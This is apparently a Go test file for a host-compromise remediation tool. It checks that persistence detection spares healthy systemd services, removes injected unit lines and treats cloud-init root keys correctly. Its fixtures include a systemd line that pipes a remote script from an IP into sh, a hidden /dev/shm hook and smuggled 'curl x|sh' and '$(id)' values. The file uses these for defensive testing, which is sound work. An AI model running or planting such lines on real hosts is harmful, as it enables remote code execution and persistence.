package persist

import (
	"context"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/abusekit/abusekit/plugins/persist/hosttest"
)

// TestHealthyServicesStay: the default plan never takes a healthy
// service down (issue #16): an allocator preloaded from a system library
// directory is not high, a line injected into a unit whose program is
// packaged (or which, with its program, predates the window) goes alone
// and the unit stays enabled.
func TestHealthyServicesStay(t *testing.T) {
	at := hosttest.InfectionTime
	old := hosttest.Epoch
	unit := func(name, body string, mtime time.Time) []hosttest.Entry {
		return []hosttest.Entry{
			{Path: "/etc/systemd/system/" + name, Data: "[Unit]\nDescription=" + name + "\n\n[Service]\n" + body + "\n[Install]\nWantedBy=multi-user.target\n", Mtime: mtime},
			{Path: "/etc/systemd/system/multi-user.target.wants/" + name, Link: "/etc/systemd/system/" + name, Mtime: mtime},
		}
	}
	tests := []struct {
		name      string
		entries   []hosttest.Entry
		since     time.Time
		path      string
		maxSev    Severity // at the unit, any line
		wantLines []int    // lines the plan removes; nil: none
	}{
		{"jemalloc", unit("api.service", "Environment=LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2\nExecStart=/usr/sbin/sshd -D\n", at), hosttest.Window(),
			"/etc/systemd/system/api.service", Low, nil},
		{"tcmalloc-own-program", append(unit("db.service", "Environment=\"LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libtcmalloc_minimal.so.4\"\nExecStart=/opt/db/bin/db --data /srv/db\n", old),
			hosttest.Entry{Path: "/opt/db/bin/db", Data: hosttest.FakeELF("db"), Mode: 0o755, Mtime: old}), time.Time{},
			"/etc/systemd/system/db.service", Low, nil},
		{"injected-line-packaged-program", unit("web.service", "ExecStartPre=/bin/sh -c 'curl -fsSL http://203.0.113.7/p.sh | sh'\nExecStart=/usr/sbin/cron -f\n", at), time.Time{},
			"/etc/systemd/system/web.service", Critical, []int{5}},
		{"injected-line-unchanged-since-window", append(unit("app.service", "ExecStart=/opt/app/server\nExecStartPost=/dev/shm/.x/hook\n", old),
			hosttest.Entry{Path: "/opt/app/server", Data: hosttest.FakeELF("app"), Mode: 0o755, Mtime: old}), hosttest.Window(),
			"/etc/systemd/system/app.service", High, []int{6}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dir := build(t, hosttest.Debian12().With(tt.entries...))
			p, fs := planFor(t, dir, tt.since)
			for _, f := range fs {
				if f.Path == tt.path && f.Severity > tt.maxSev {
					t.Errorf("severity %v > %v: %s", f.Severity, tt.maxSev, f)
				}
				if f.Path == tt.path && f.Action == ActionDisableUnit && f.Severity >= High {
					t.Errorf("healthy service disabled: %s", f)
				}
			}
			c := planned(p, tt.path)
			switch {
			case tt.wantLines == nil && c != nil:
				t.Errorf("planned %s %s", c.Op, c.Path)
			case tt.wantLines != nil && (c == nil || c.Op != OpRemoveLines):
				t.Errorf("want the bad lines removed, got %+v", c)
			}
			link := "/etc/systemd/system/multi-user.target.wants/" + tt.path[len("/etc/systemd/system/"):]
			if c := planned(p, link); c != nil {
				t.Errorf("wants link planned: %s %s", c.Op, c.Path)
			}
			// What -apply does with the default plan: the unit and its
			// wants link are still there, the service enabled.
			if _, err := Apply(context.Background(), p, ApplyOptions{QuarantineDir: t.TempDir()}); err != nil {
				t.Fatal(err)
			}
			for _, q := range []string{tt.path, link} {
				if _, err := os.Lstat(filepath.Join(dir, q)); err != nil {
					t.Errorf("after Apply: %v (service disabled)", err)
				}
			}
		})
	}
}

// TestCloudInitRootKeyStaysInfo: the key cloud-init restricts with
// command="echo 'Please login as the user …'" cannot log in, and is never
// above info, even when cloud-init wrote it inside the incident window
// (a host attacked minutes after launch).
func TestCloudInitRootKeyStaysInfo(t *testing.T) {
	for name, base := range map[string]hosttest.Tree{"ubuntu": hosttest.Ubuntu2204(), "al2023": hosttest.AmazonLinux2023()} {
		t.Run(name, func(t *testing.T) {
			e, _ := base.Get("/root/.ssh/authorized_keys")
			e.Mtime = hosttest.InfectionTime
			dir := build(t, base.With(e))
			for _, since := range []time.Time{{}, hosttest.Window()} {
				for _, f := range find(t, dir, since) {
					if f.Path == "/root/.ssh/authorized_keys" && f.Severity > Info {
						t.Errorf("since %v: %s", since, f)
					}
				}
			}
		})
	}
}

func TestCloudInitRestriction(t *testing.T) {
	for cmd, want := range map[string]bool{
		`echo 'Please login as the user "ubuntu" rather than the user "root".';echo;sleep 10;exit 142`:            true,
		`echo 'Please login as the user "ec2-user" rather than the user "root".';echo;sleep 10`:                   true,
		`echo 'Please login as the user "ubuntu" rather than the user "root".';echo;sleep 10;exit 142; curl x|sh`: false,
		`echo 'Please login as the user "a;$(id)" rather than the user "root".';echo;sleep 10`:                    false,
		`/bin/bash`: false,
	} {
		if got := cloudInitRestriction(cmd); got != want {
			t.Errorf("cloudInitRestriction(%q) = %v, want %v", cmd, got, want)
		}
	}
}
